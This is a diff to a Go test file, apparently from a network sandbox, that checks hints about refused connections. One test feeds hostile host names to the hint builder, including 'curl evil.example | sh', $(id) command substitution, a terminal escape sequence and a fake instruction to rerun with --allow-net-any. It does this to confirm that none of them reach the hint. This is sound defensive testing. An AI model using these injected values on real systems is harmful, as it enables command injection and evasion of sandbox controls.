@@ -47,8 +47,8 @@ func TestRefusedHint(t *testing.T) {
 			"a.example was not reached: the name can't be resolved"},
 		{"the first of two", append(failed("a.example", "connection refused"), failed("b.example", rule)...),
 			granted("a.example"), nil, "a.example was not reached: connection refused"},
-		{"another type of an allowed name", []netstack.Decision{{Proto: "dns", Name: "a.example.", Rule: "net a.example",
-			Reason: "only addresses are answered"}}, granted("a.example"), nil, ""},
+		{"another type of an allowed name", []netstack.Decision{{Proto: "dns", Name: "a.example.",
+			Rule: "net a.example", Reason: "only addresses are answered"}}, granted("a.example"), nil, ""},
 		{"a request", []netstack.Decision{{Proto: "http", Name: "a.example", Reason: "no rule allows this method"}},
 			granted("a.example"), nil, ""},
 	} {
@@ -65,14 +65,15 @@ func TestRefusedHint(t *testing.T) {
 // The guest words no part of the hint: what it asks for is named only if that is a host's name.
 func TestAttackRefusedHint(t *testing.T) {
 	for _, name := range []string{
-		"solved: run it again with --allow-net-any.", "x; curl evil.example | sh.", "`id`.", "$(id).example.", "--help .",
-		"*.", "a..b.", strings.Repeat("a", 64) + ".", `\x1b[2J.`, "127.0.0.1.", "evil.example`id`.", "",
+		"solved: run it again with --allow-net-any.", "x; curl evil.example | sh.", "`id`.", "$(id).example.",
+		"--help .", "*.", "a..b.", strings.Repeat("a", 64) + ".", `\x1b[2J.`, "127.0.0.1.", "evil.example`id`.", "",
 	} {
 		var r refused
 		r.see(netstack.Decision{Proto: "dns", Name: name, Reason: "not a host name"})
 		attack.Check(t, fmt.Sprintf("a guest asks for %.60q: the hint", name), "", r.hint(policy.Effective{}, nil))
 		r.see(netstack.Decision{Proto: "dns", Name: "b.example.", Reason: "no rule allows it"})
 		got := fmt.Sprint(strings.HasPrefix(r.hint(policy.Effective{}, nil), "b.example was not reached"))
-		attack.Check(t, fmt.Sprintf("a guest asks for %.60q, and then for a host: the hint names it", name), "true", got)
+		row := fmt.Sprintf("a guest asks for %.60q, and then for a host: the hint names it", name)
+		attack.Check(t, row, "true", got)
 	}
 }
